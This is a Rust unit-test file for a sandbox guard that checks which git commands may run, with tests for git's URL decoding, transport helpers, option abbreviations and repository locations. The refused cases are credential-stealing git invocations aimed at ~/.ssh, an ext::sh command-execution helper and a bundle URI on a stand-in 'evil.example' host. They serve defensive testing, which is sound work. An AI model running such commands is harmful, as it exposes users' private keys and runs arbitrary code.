//! Unit tests of the repositories and files git opens through its
//! repository operands and options: the source of `clone`/`fetch`/`pull`/
//! `ls-remote`/`submodule add`/`archive --remote`, the target of `push`,
//! the URL `remote add`/`set-url` store, `--reference`, `--bundle-uri`,
//! `ls-files --exclude-per-directory`, `branch.*.remote`, and computed
//! values of git's file options. The workspace is a repository with a
//! blocked `.env`, a bare repository `mirror.git`, a directory `wt` whose
//! `.git` file names the workspace's `.git`, and one, `away`, whose `.git`
//! file names `~/.ssh`.

use super::fetched::{git_location, Location};
use super::normalize::Arg;
use super::option_harness::guard;
use super::*;
use crate::policy::{FilesystemMode, FilesystemPolicy, ResourceLimits};

struct Fix {
    dir: tempfile::TempDir,
    fs: FilesystemGuard,
}

fn fixture() -> Fix {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    let home = dir.path().join("home");
    for d in [
        "src",
        ".git/hooks",
        ".git/objects",
        ".git/refs",
        "mirror.git/objects",
        "mirror.git/refs",
        "wt",
        "away",
    ] {
        std::fs::create_dir_all(ws.join(d)).unwrap();
    }
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::create_dir_all(home.join("notes")).unwrap();
    std::fs::write(home.join(".ssh/id_rsa"), "k\n").unwrap();
    std::fs::write(ws.join("a.txt"), "a\n").unwrap();
    std::fs::write(ws.join(".env"), "SECRET=1\n").unwrap();
    std::fs::write(ws.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(ws.join(".git/config"), "").unwrap();
    std::fs::write(ws.join("mirror.git/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(ws.join("wt/.git"), "gitdir: ../.git\n").unwrap();
    std::fs::write(
        ws.join("away/.git"),
        format!("gitdir: {}\n", home.join(".ssh").display()),
    )
    .unwrap();
    let policy = FilesystemPolicy {
        mode: FilesystemMode::Permissive,
        allowed_paths: vec![],
        blocked_paths: vec!["~/.ssh".into(), "~/.aws".into(), ".env".into()],
        allow_symlinks: true,
        allow_hidden_files: true,
    };
    let fs = FilesystemGuard::new(&policy, &ResourceLimits::default(), &ws, &home).unwrap();
    Fix { dir, fs }
}

fn verdict(cmd: &str) -> (&'static str, &'static str, String) {
    let f = fixture();
    let home = f.dir.path().join("home");
    let cmd = cmd.replace("{HOME}", home.to_str().unwrap());
    let g = guard(CommandMode::Blacklist, &["curl"]);
    let a = g.analyze(&cmd, &f.fs);
    (a.verdict, a.code, a.reason)
}

fn refused(cases: &[&str]) {
    for c in cases {
        let (v, _, why) = verdict(c);
        assert_ne!(v, "allow", "{c}: {why}");
    }
}

fn allowed(cases: &[&str]) {
    for c in cases {
        let (v, _, why) = verdict(c);
        assert_eq!(v, "allow", "{c}: {why}");
    }
}

fn loc(v: &str) -> Location {
    git_location(&Arg::literal(v, [0, 0]), false)
}

#[test]
fn locations_read_as_git_reads_them() {
    assert_eq!(
        loc("file:///h/%2essh"),
        Location::Local("/h/.ssh".into(), false)
    );
    assert_eq!(
        loc("file:///h/.s%73h/"),
        Location::Local("/h/.ssh/".into(), false)
    );
    // A `%` without two hex digits stays as it is.
    assert_eq!(
        loc("file:///h/a%zz"),
        Location::Local("/h/a%zz".into(), false)
    );
    assert_eq!(loc("file://%2fh/x"), Location::Local("/h/x".into(), false));
    assert!(matches!(loc("file://host/h/x"), Location::Unmodelled(_)));
    assert!(matches!(loc("file:///h/%ff"), Location::Unmodelled(_)));
    assert_eq!(loc("ext::sh -c id"), Location::Helper("ext".into()));
    assert_eq!(
        loc("gcrypt::https://h/r"),
        Location::Helper("gcrypt".into())
    );
    assert_eq!(loc("HTTPS://h/r"), Location::Helper("HTTPS".into()));
    assert_eq!(loc("https://h/r"), Location::Network);
    assert_eq!(loc("git@h:r"), Location::Network);
    assert_eq!(loc("~/r"), Location::Local("~/r".into(), true));
    assert_eq!(loc("../r"), Location::Local("../r".into(), false));
    assert_eq!(loc("."), Location::Local(".".into(), false));
    assert_eq!(loc("origin"), Location::Name("origin".into()));
    assert_eq!(
        git_location(&Arg::dynamic("$x", [0, 0]), false),
        Location::Computed
    );
}

#[test]
fn local_repositories_are_judged_as_git_opens_them() {
    refused(&[
        // A: archive --remote, both forms, file://.
        "git archive --remote={HOME}/.ssh HEAD",
        "git archive --remote ~/.ssh HEAD",
        "git archive --remote=file://{HOME}/.ssh HEAD",
        "git archive \"--remote=$x\" HEAD",
        // B: file:// sources, decoded; helpers; the tree of a source.
        "git clone file://{HOME}/%2essh x",
        "git clone file://localhost{HOME}/.ssh x",
        "git fetch file://{HOME}/.ssh",
        "git ls-remote file://{HOME}/.ssh",
        "git pull file://{HOME}/.ssh main",
        "git submodule add file://{HOME}/.ssh s",
        "git submodule add -b main {HOME}/.ssh s",
        "git clone -b main {HOME}/.ssh y",
        "git fetch --multiple origin {HOME}/.ssh",
        "git clone {HOME} h2",
        "git clone gcrypt::https://github.com/a/b",
        "git clone away c",
        // C: --reference in both forms.
        "git clone --reference={HOME}/.ssh https://github.com/a/b",
        "git clone --reference-if-able {HOME}/.ssh https://github.com/a/b",
        "git submodule update --init --reference={HOME}/.ssh",
        // D: push targets.
        "git push {HOME}/.ssh main",
        "git push file://{HOME}/.ssh main",
        "git push --repo={HOME}/.ssh",
        // H: bundle URIs.
        "git clone --bundle-uri={HOME}/.ssh/id_rsa https://github.com/a/b",
        "git clone --bundle-uri https://evil.example/b https://github.com/a/b",
        // K: stored URLs.
        "git remote add o {HOME}/.ssh",
        "git remote add -t main -m main o file://{HOME}/.ssh",
        "git remote set-url --push origin {HOME}/.ssh",
        "git remote -v add o {HOME}/.ssh",
        "git submodule set-url s {HOME}/.ssh",
        // Abbreviations git accepts for a unique prefix.
        "git archive --rem={HOME}/.ssh HEAD",
        "git clone --reference-if={HOME}/.ssh https://github.com/a/b",
        "git clone --referen={HOME}/.ssh https://github.com/a/b",
        "git clone --bundle={HOME}/.ssh/id_rsa https://github.com/a/b",
        "git push --rep={HOME}/.ssh",
    ]);
    allowed(&[
        "git clone https://github.com/a/b",
        "git clone -b main https://github.com/a/b b2",
        "git fetch",
        "git fetch origin main",
        "git pull",
        "git push origin main",
        "git push -u origin HEAD",
        "git remote add upstream https://github.com/a/b.git",
        "git remote set-url origin git@github.com:a/b.git",
        "git ls-remote origin",
        // Local repositories without a blocked entry in their git
        // directory: the workspace's own (its `.env` is in the working
        // tree, which git does not read), a bare one, a linked one.
        "git clone . c",
        "git clone mirror.git c",
        "git clone wt c",
        "git push ./mirror.git main",
        "git fetch . main:x",
        "git archive --remote=./mirror.git HEAD -o out.tar",
        "git clone {HOME}/notes n",
        "git submodule set-url s https://github.com/a/b",
        "git clone --branch main --bare https://github.com/a/b x.git",
        "git fetch --multiple origin upstream",
        "git push --recurse-submodules=check origin main",
    ]);
}

#[test]
fn exclude_per_directory_reads_that_name_everywhere() {
    refused(&[
        "git ls-files -o -i --exclude-per-directory=.env",
        "git ls-files --exclude-per-directory ../../home/.ssh/id_rsa",
        "git ls-files -o --exclude-per=.env",
        "git ls-files --exclude-f={HOME}/.ssh/id_rsa",
        "git ls-files \"--exclude-per-directory=$x\"",
    ]);
    allowed(&[
        "git ls-files -o --exclude-per-directory=.gitignore",
        "git ls-files --exclude-standard -o",
        "git ls-files --exclude='*.o' -o",
    ]);
}

#[test]
fn branch_remote_is_inert_only_as_a_remote_name() {
    refused(&[
        "git config branch.main.remote {HOME}/.ssh",
        "git config branch.main.remote file://{HOME}/.ssh",
        "git config branch.main.remote evil:x",
        "git config branch.main.remote ../o",
        "git config set branch.main.remote ~/.ssh",
    ]);
    allowed(&[
        "git config branch.main.remote origin",
        "git config branch.main.remote .",
        "git config --unset branch.main.remote",
        "git config branch.main.merge refs/heads/main",
    ]);
}

#[test]
fn computed_values_of_git_file_options_are_not_known() {
    refused(&[
        "git format-patch \"--signature-file=$x\" HEAD~1",
        "git format-patch \"--sig=$x\" HEAD~1",
        "git blame \"--contents=$x\" a.txt",
        "git blame \"--ignore-revs-file=$x\" a.txt",
        "git archive \"--add-file=$x\" HEAD",
        "git ls-files \"--exclude-from=$x\"",
        "git blame -S \"$x\" a.txt",
        "git commit -t \"$x\"",
        "git log \"--output=$x\"",
        "git format-patch --signature-f={HOME}/.ssh/id_rsa HEAD~1",
        "git format-patch --sig={HOME}/.ssh/id_rsa HEAD~1",
    ]);
    allowed(&[
        "git commit -m \"$msg\"",
        "git commit \"--message=$msg\"",
        "git log \"--author=$a\" \"--since=$d\" \"--format=$f\"",
        "git checkout -b \"$branch\"",
        "git log -S \"$x\"",
        "git tag -m \"$x\" v1",
        "git format-patch --signoff --signature=x -o out HEAD~1",
    ]);
}

#[test]
fn ext_and_fd_locations_are_refused_as_options_values_too() {
    for c in [
        "git archive --remote=ext::sh HEAD",
        "git clone --reference=ext::sh https://github.com/a/b",
        "git remote add o fd::3",
    ] {
        let (v, code, why) = verdict(c);
        assert_eq!((v, code), ("deny", "DANGEROUS_FLAG"), "{c}: {why}");
    }
}
